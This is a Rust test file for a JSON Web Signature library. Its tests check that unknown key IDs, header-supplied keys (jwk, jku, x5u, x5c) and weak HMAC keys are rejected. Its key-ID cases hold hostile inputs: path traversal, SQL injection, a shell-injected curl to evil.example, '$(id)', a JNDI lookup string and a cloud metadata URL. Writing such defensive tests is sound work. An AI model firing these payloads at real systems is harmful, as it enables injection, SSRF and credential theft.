//! Tests of the choice of the key, S-JWS-4 and S-JWS-5.

use std::time::{Duration, Instant};

use jsonwebtoken::Algorithm;
use serde_json::{Value, json};

use super::{SECRET, Signer, hs256, key_set, session, verdict, with_unused_bit};
use crate::{
    encoding::base64url,
    jws::{JwsError, KeyError, KeySet, TokenKind},
};

#[test]
fn an_unknown_kid_is_rejected_whatever_it_contains() {
    // S-JWS-4.
    let began = Instant::now();
    let mut jwk = hs256().jwk;
    jwk["kid"] = json!("site-1");
    let keys = key_set(&[&jwk]);
    let token =
        |signer: &Signer, kid: &Value| signer.token(TokenKind::Session, |header, _| header["kid"] = kid.clone());
    assert_eq!(
        verdict(&keys, TokenKind::Session, &token(&hs256(), &json!("site-1"))),
        Ok(())
    );
    let long = "k".repeat(3 * 1024);
    for kid in [
        "",
        " ",
        "\u{0}",
        "site-1\u{0}",
        "site-1\n",
        " site-1",
        "SITE-1",
        "site-",
        "site-11",
        "site-1/",
        "./site-1",
        "../../../../../../dev/null",
        "/dev/null",
        "file:///dev/null",
        "/proc/sys/kernel/randomize_va_space",
        "x' UNION SELECT 'secret' -- ",
        "'; DROP TABLE keys; --",
        "key.pem; curl https://evil.example",
        "$(id)",
        "| id",
        "{{7*7}}",
        "${jndi:ldap://evil.example/a}",
        "https://evil.example/jwks.json",
        "http://169.254.169.254/latest/meta-data/",
        "arn:aws:secretsmanager:eu-west-1:123456789012:secret:soa-link",
        "arn:aws:kms:eu-west-1:123456789012:key/0",
        "*",
        "0",
        "null",
        "undefined",
        "__proto__",
        "unknown",
        &long,
    ] {
        for signer in [hs256(), Signer::hmac(b""), Signer::hmac(&[0]), Signer::hmac(b"secret")] {
            let token = token(&signer, &json!(kid));
            assert_eq!(
                verdict(&keys, TokenKind::Session, &token),
                Err(JwsError::UnknownKey),
                "{kid:?}"
            );
        }
    }
    for kid in [
        json!(1),
        json!(null),
        json!(true),
        json!(["site-1"]),
        json!({"kid": "site-1"}),
    ] {
        let token = token(&hs256(), &kid);
        assert_eq!(
            verdict(&keys, TokenKind::Session, &token),
            Err(JwsError::Malformed),
            "{kid}"
        );
    }
    assert!(began.elapsed() < Duration::from_secs(3));
    // A key without `kid` does not match a token with one.
    assert_eq!(session(&token(&hs256(), &json!("site-1"))), Err(JwsError::UnknownKey));
    assert_eq!(session(&token(&hs256(), &json!(""))), Err(JwsError::UnknownKey));
}

#[test]
fn a_key_supplied_by_the_token_is_not_used() {
    // S-JWS-5, CVE-2018-0114. No listener is needed, because this module has no network access.
    let attackers = [
        Signer::hmac(b"fedcba9876543210fedcba9876543210"),
        Signer::rsa(Algorithm::RS256),
        Signer::ec(),
    ];
    let ours = [hs256(), Signer::rsa(Algorithm::RS256), Signer::ec()];
    for (attacker, our) in attackers.iter().zip(&ours) {
        let certificate = crate::encoding::base64(attacker.public.first().map_or(&[][..], Vec::as_slice));
        for (name, value) in [
            ("jwk", attacker.jwk.clone()),
            ("jwk", json!({"keys": [attacker.jwk]})),
            ("jku", json!("https://evil.example/jwks.json")),
            ("jku", json!("https://www.example.com@evil.example/jwks.json")),
            ("x5u", json!("https://evil.example/chain.pem")),
            ("x5c", json!([certificate])),
            ("x5t", json!("AAAAAAAAAAAAAAAAAAAAAAAAAAA")),
            ("x5t#S256", json!(base64url([0; 32]))),
            ("kid", json!("https://evil.example/jwks.json")),
        ] {
            let token = attacker.token(TokenKind::Session, |header, _| header[name] = value.clone());
            let verdict = verdict(&our.keys(), TokenKind::Session, &token);
            let expected = if name == "kid" {
                JwsError::UnknownKey
            } else {
                JwsError::Signature
            };
            assert_eq!(verdict, Err(expected), "{name}");
        }
        let token = attacker.token(TokenKind::Session, |_, payload| {
            payload["iss"] = json!("https://evil.example");
        });
        assert_eq!(
            verdict(&our.keys(), TokenKind::Session, &token),
            Err(JwsError::Signature)
        );
    }
    let token = hs256().token(TokenKind::Session, |_, payload| {
        payload["iss"] = json!("https://evil.example");
    });
    assert_eq!(session(&token), Err(JwsError::Claim("iss")));
}

#[test]
fn a_key_is_found_among_others_with_and_without_kid() {
    let signers = Signer::all();
    let mut jwks: Vec<_> = signers.iter().map(|signer| signer.jwk.clone()).collect();
    for (place, jwk) in jwks.iter_mut().enumerate() {
        jwk["kid"] = json!(format!("key-{place}"));
    }
    let keys = key_set(&jwks.iter().collect::<Vec<_>>());
    for (place, signer) in signers.iter().enumerate() {
        assert_eq!(
            verdict(&keys, TokenKind::Session, &signer.good(TokenKind::Session)),
            Ok(())
        );
        let named = |place: usize| {
            signer.token(TokenKind::Session, |header, _| {
                header["kid"] = json!(format!("key-{place}"));
            })
        };
        assert_eq!(verdict(&keys, TokenKind::Session, &named(place)), Ok(()));
        let other = verdict(&keys, TokenKind::Session, &named((place + 1) % 5));
        assert_eq!(other, Err(JwsError::Algorithm));
    }
}

#[test]
fn an_empty_key_set_rejects_every_token() {
    let none = KeySet::parse(&json!({"keys": []})).unwrap();
    assert!(none.is_empty());
    assert_eq!(
        verdict(&none, TokenKind::Session, &hs256().good(TokenKind::Session)),
        Err(JwsError::UnknownKey)
    );
}

#[test]
fn a_short_or_non_canonical_key_is_rejected() {
    // S-JWS-14.
    let oct = |key: &str| KeySet::parse(&json!({"keys": [{"kty": "oct", "k": key}]})).err();
    for short in [
        "",
        "secret",
        "password",
        "0000000000000000000000",
        "0123456789abcdef0123456789abcde",
    ] {
        assert_eq!(oct(&base64url(short)), Some(KeyError::TooShort(1)), "{short:?}");
    }
    let key = base64url(SECRET);
    assert_eq!(oct(&key), None);
    for bad in [
        format!("{key}\n"),
        format!(" {key}"),
        format!("{key}="),
        with_unused_bit(&key),
        key.replacen('M', "+", 1),
    ] {
        assert_eq!(oct(&bad), Some(KeyError::Malformed(1)), "{bad:?}");
    }
}
